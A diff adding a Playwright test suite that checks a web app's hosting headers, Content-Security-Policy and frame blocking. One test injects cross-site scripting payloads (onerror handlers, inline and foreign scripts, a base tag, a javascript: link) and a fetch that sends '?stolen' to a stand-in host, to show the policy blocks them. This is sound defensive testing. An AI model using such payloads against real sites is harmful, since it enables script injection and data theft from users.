@@ -1,0 +1,103 @@
+import { readFileSync } from "node:fs";
+import { hostingHeadersOf } from "../../scripts/hosting-headers-plugin";
+import type { PlainFields } from "../../emulator/demo/types";
+import { expect, test } from "./fixtures";
+import { ADMIN_SCREENS, COMPANY, COMPANY_RECORD, COMPANY_SCREENS, OPEN_SCREENS, openScreen, RECORD, watch } from "./hardening-world"; // prettier-ignore
+import { brandRecord } from "./brand-records";
+
+const HEADERS = hostingHeadersOf(readFileSync(new URL("../../firebase.json", import.meta.url), "utf8"));
+
+test("the headers of firebase.json come with every page and file", async ({ page }) => {
+  for (const address of ["/login", "/brands", "/favicon.svg", "/nowhere"]) {
+    const sent = (await page.request.get(address)).headers();
+    for (const [name, value] of Object.entries(HEADERS))
+      if (name !== "Content-Security-Policy") expect(sent[name.toLowerCase()]).toBe(value);
+    // The local Firebase may be asked as well; what may run is the same.
+    const policy = sent["content-security-policy"]!;
+    for (const directive of HEADERS["Content-Security-Policy"]!.split("; "))
+      expect(policy).toContain(directive);
+    expect(policy).toContain("script-src 'self';");
+  }
+});
+
+test("no screen needs what the policy forbids", async ({ page, panel, backend }) => {
+  test.setTimeout(180_000);
+  const employee = { name: "Ali", empId: "1", qid: "1", password: "x", companyId: COMPANY.companyId, companyName: "Gate" };
+  const records: { readonly [path: string]: PlainFields } = {
+    [`Brands/${RECORD}`]: brandRecord("Saffron"),
+    [`Westwalk_Staff/${RECORD}`]: { name: "Ali", email: "a@b.qa", staffId: "1", password: "x", time: new Date() },
+    [`Tenants/${RECORD}`]: { name: "Ali", email: "a@b.qa", password: "x", tenantCategory: "Residential", time: new Date() },
+    [`Employees/${RECORD}`]: employee,
+    [`Companies/${COMPANY_RECORD}`]: { companyId: COMPANY.companyId, companyName: "Gate", password: COMPANY.verifier },
+  };
+  await backend.put(records);
+  const seen = await watch(page);
+  const visit = async (screens: readonly string[]) => {
+    for (const screen of screens) {
+      await openScreen(page, screen);
+    }
+  };
+  await visit(OPEN_SCREENS);
+  await panel.enter();
+  await visit(ADMIN_SCREENS);
+  await panel.openBrands();
+  await panel.openAddBrand();
+  await panel.fillNewBrand({ nameEng: "Cardamom" });
+  await panel.save();
+  await expect(panel.brand("Cardamom")).toBeVisible();
+  await page.goto("/organization-login");
+  await page.getByLabel("Company ID").fill(COMPANY.companyId);
+  await page.getByLabel("Password", { exact: true }).fill(COMPANY.password);
+  await page.getByRole("button", { name: "Sign in" }).click();
+  await expect(page).toHaveURL(/employee-list/);
+  await visit(COMPANY_SCREENS);
+  expect(seen.violations()).toEqual([]);
+}); // prettier-ignore
+
+test("the policy stops what gets into a page all the same", async ({ page, panel }) => {
+  const seen = await watch(page);
+  await panel.enter();
+  await page.evaluate(() => {
+    const add = (html: string) => document.body.insertAdjacentHTML("beforeend", html);
+    add("<img src='x' onerror='window.ran=1'><iframe srcdoc='<script>top.ran=2</script>'></iframe>");
+    add("<form action='https://a.example/' id='away'><input name='x'></form><object data='/favicon.svg'></object>");
+    const inline = document.createElement("script");
+    inline.textContent = "window.ran=3";
+    document.body.append(inline);
+    const foreign = document.createElement("script");
+    foreign.src = "https://a.example/x.js";
+    document.body.append(foreign);
+    const base = document.createElement("base");
+    base.href = "https://a.example/";
+    document.head.append(base);
+    const link = document.createElement("a");
+    link.href = "javascript:window.ran=4";
+    document.body.append(link);
+    link.click();
+    document.querySelector<HTMLFormElement>("#away")?.submit();
+  });
+  const kinds = ["script-src-attr", "script-src-elem", "object-src", "base-uri", "form-action"];
+  await expect.poll(() => kinds.filter((kind) => !seen.violations().some((told) => told.startsWith(kind)))).toEqual([]);
+  const sent = page.evaluate(() => fetch("https://a.example/?stolen").then(() => "sent", () => "stopped"));
+  expect(await sent).toBe("stopped");
+  expect(seen.violations().some((told) => told.startsWith("connect-src"))).toBe(true);
+  expect(await seen.ran()).toEqual([]);
+  const evaluated = page.evaluate(() => {
+    const script = document.createElement("div");
+    script.setAttribute("onclick", "window.ran=5");
+    script.click();
+    return Reflect.get(window, "ran") as unknown;
+  });
+  expect(await evaluated).toBeUndefined();
+}); // prettier-ignore
+
+test("no other page can show the panel in a frame", async ({ page, baseURL }) => {
+  await page.route("http://elsewhere.localhost/", (route) =>
+    route.fulfill({ contentType: "text/html", body: `<iframe src="${String(baseURL)}/contact_us_form_staff"></iframe>` }),
+  );
+  await page.goto("http://elsewhere.localhost/");
+  const refused = page.frames()[1]!;
+  await expect.poll(() => refused.url()).toMatch(/chrome-error/);
+  await page.goto("/contact_us_form_staff");
+  await expect(page.getByRole("button", { name: "Send Message" })).toBeVisible();
+}); // prettier-ignore
